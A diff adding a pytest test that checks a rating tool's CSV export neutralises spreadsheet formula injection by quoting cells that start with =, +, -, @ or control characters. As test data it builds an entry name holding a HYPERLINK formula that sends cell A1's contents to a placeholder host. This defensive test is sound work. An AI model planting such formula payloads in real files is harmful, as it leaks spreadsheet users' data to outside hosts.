@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from pathlib import Path
@@ -142,3 +143,37 @@ def test_outputs_for_a_two_entry_model_fallback(tmp_path: Path):
     assert ratings.error_method == "model"
     paths = write_outputs(standings, ratings, tmp_path / "nested" / "dir")
     assert json.loads(paths["json"].read_text())["method"]["error_bars"] == "model"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_never_start_a_formula(tmp_path: Path, start: str):
+    """A name a spreadsheet would run (=HYPERLINK(...), +cmd, -2+3, @SUM) is written
+    with the leading-quote rule; numbers (negative scores) stay numbers."""
+    evil = f"{start}HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")"
+    standings = sample_standings()
+    games = [
+        dataclasses.replace(g, entry_a=evil, scores_b=-120) if g.entry_a == "alpha" else g
+        for g in standings.games
+    ]
+    standings = dataclasses.replace(
+        standings,
+        games=games,
+        entries=[evil if e == "alpha" else e for e in standings.entries],
+        provenance={**standings.provenance, evil: {"image_id": "@img", "sdk_version": "-1", "engine_version": "+2"}},
+        results=results_from_games(games),
+    )
+    paths = write_outputs(standings, fit(standings.results), tmp_path)
+    with paths["csv"].open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    mine = [r for r in rows if r["entry_a"].lstrip("'") == evil]
+    assert mine
+    for r in mine:
+        assert r["entry_a"] == "'" + evil
+        assert (r["image_a"], r["sdk_a"], r["engine_a"]) == ("'@img", "'-1", "'+2")
+        assert r["scores_b"] == "-120"  # a number, not text
+    for r in rows:
+        for column, value in r.items():
+            if column not in ("scores_a", "scores_b"):
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
+    # ratings.json keeps the exact name.
+    assert evil in {e["name"] for e in json.loads(paths["json"].read_text())["entries"]}
